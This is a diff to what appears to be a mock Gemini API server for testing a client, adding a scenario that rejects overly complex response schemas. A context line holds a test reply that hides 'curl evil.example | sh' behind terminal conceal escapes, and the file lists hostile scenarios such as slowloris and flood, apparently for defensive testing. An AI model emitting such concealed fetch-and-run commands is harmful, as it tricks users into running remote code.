@@ -9,7 +9,7 @@ to --log (method, path, headers, body) so tests can check what the client sent.
 Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
-parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), grounded, grounded-cjk, grounded-bad (Search grounding with Latin, CJK and broken byte offsets), url-read (URL context), code-run (code execution), no-tools (refuses every tool), cut-event (a reply whose stream ends in the middle of an event),
+parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), grounded, grounded-cjk, grounded-bad (Search grounding with Latin, CJK and broken byte offsets), url-read (URL context), code-run (code execution), no-tools (refuses every tool), schema-refused (refuses any responseJsonSchema), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
 
 The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
@@ -222,6 +222,11 @@ class Handler(BaseHTTPRequestHandler):
                 # Google's answer for a schema without the JSON MIME type.
                 self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                           "message": "Invalid JSON payload received. response_mime_type must be application/json when a response schema is set."}}, indent=2).encode())
+                return
+            if scenario == "schema-refused":
+                # A schema Google will not take (too deep, or a keyword it lacks).
+                self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
+                                                          "message": "The specified response_json_schema is too complex: it has too many nested levels."}}, indent=2).encode())
                 return
             if scenario.startswith("structured"):
                 return self.structured(method, scenario, config["responseJsonSchema"])
@@ -819,7 +824,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools"} | TOOL_REPLIES | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools", "schema-refused"} | TOOL_REPLIES | set(HOSTILE)
 
 
 def main():
